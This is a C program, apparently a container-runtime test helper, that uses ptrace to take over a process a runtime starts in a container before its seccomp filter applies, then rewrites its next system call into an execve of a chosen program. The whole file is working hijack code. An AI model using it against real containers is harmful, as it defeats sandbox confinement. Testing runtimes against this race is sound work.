// SPDX-License-Identifier: Apache-2.0
/*
 * hijack PROGRAM ARGUMENT...: takes over the next process that a runtime starts in this container, before that has a seccomp
 * filter, and has it run the program. Prints "waiting", and "hijacked" once the program runs. Needs CAP_SYS_PTRACE.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#define PIDS (1 << 22)
#define WORDS 16
#define ROOM 8192 /* below the stack, for the words */

static char seen[PIDS];

static int has_filter(int pid)
{
	char path[64], text[4096] = "";
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/status", pid);
	fd = open(path, O_RDONLY);
	if (fd < 0 || read(fd, text, sizeof(text) - 1) < 0)
		return 1;
	close(fd);
	return strstr(text, "\nSeccomp:\t0") == NULL;
}

static int put(int pid, unsigned long at, const void *data, size_t bytes)
{
	struct iovec ours = { (void *)data, bytes }, theirs = { (void *)at, bytes };

	return process_vm_writev(pid, &ours, 1, &theirs, 1, 0) == (ssize_t)bytes;
}

static int stop(int pid)
{
	int status;

	return waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status) ? WSTOPSIG(status) : -1;
}

/* Make its next system call an execve(2) without an environment. */
static int make_exec(int pid, char **words)
{
	unsigned long at, pointer[WORDS + 1] = { 0 };
	struct user_regs_struct regs;
	int i, signal;

	do {
		ptrace(PTRACE_SYSCALL, pid, 0, 0);
		signal = stop(pid);
	} while (signal >= 0 && signal != (SIGTRAP | 0x80));
	if (signal < 0 || ptrace(PTRACE_GETREGS, pid, 0, &regs) < 0)
		return 0;
	at = (regs.rsp - ROOM) & ~15ul;
	for (i = 0; words[i] && i < WORDS; i++) {
		pointer[i] = at;
		put(pid, at, words[i], strlen(words[i]) + 1);
		at += (strlen(words[i]) + 16) & ~15ul;
	}
	put(pid, at, pointer, sizeof(pointer));
	regs.orig_rax = SYS_execve;
	regs.rdi = pointer[0];
	regs.rsi = at;
	regs.rdx = at + (unsigned long)i * sizeof(pointer[0]);
	ptrace(PTRACE_SETREGS, pid, 0, &regs);
	ptrace(PTRACE_SYSCALL, pid, 0, 0);
	return stop(pid) >= 0 && ptrace(PTRACE_GETREGS, pid, 0, &regs) == 0 && regs.rax == 0;
}

static int hijack(int pid, char **words)
{
	int done;

	if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACESYSGOOD) < 0)
		return 0;
	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	done = stop(pid) >= 0 && !has_filter(pid) && make_exec(pid, words);
	ptrace(PTRACE_DETACH, pid, 0, 0);
	return done;
}

/* Look at the processes that have come. first: they are not the runtime's. */
static int look(char **words, int first)
{
	DIR *folder = opendir("/proc");
	struct dirent *entry;
	int done = 0;

	while (folder && !done && (entry = readdir(folder))) {
		int pid = atoi(entry->d_name);

		if (pid <= 0 || pid >= PIDS || seen[pid])
			continue;
		seen[pid] = 1;
		done = !first && hijack(pid, words);
	}
	if (folder)
		closedir(folder);
	return done;
}

int main(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	setvbuf(stdout, NULL, _IOLBF, 0);
	look(argv + 1, 1);
	puts("waiting");
	while (!look(argv + 1, 0))
		;
	puts("hijacked");
	for (;;)
		pause();
}
